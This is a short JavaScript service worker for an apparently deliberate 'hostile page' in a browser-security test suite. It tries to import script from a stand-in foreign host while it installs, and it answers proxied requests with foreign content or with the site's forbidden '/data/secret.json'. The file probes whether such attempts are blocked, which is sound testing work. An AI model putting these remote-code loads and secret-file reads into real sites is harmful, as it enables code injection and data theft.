/* The hostile page's service worker: tries to load foreign code while it installs, runs
   the shared attempts when a page asks, and answers the page's own requests with foreign
   content or with forbidden files of the site. */
importScripts("/js/hostile-common.js");
try {
  importScripts("https://" + Hostile.foreignHost + "/service-worker/import.js");
} catch (e) {
  // Refused, as it should be; the worker installs without it.
}

self.addEventListener("install", function (event) {
  event.waitUntil(self.skipWaiting());
});

self.addEventListener("activate", function (event) {
  event.waitUntil(self.clients.claim());
});

self.addEventListener("message", function (event) {
  Hostile.configure(event.data);
  event.waitUntil(Hostile.run(Hostile.common("service-worker"), event.data.rounds)
    .then(function (channels) { event.source.postMessage(channels); }));
});

self.addEventListener("fetch", function (event) {
  if (event.request.url.indexOf("swproxy") < 0) return;
  event.respondWith(
    fetch(Hostile.foreign("https", "/service-worker/proxied"), { mode: "no-cors" })
      .catch(function () { return fetch("/data/secret.json"); })
      .catch(function () { return new Response("sw-fallback"); }));
});
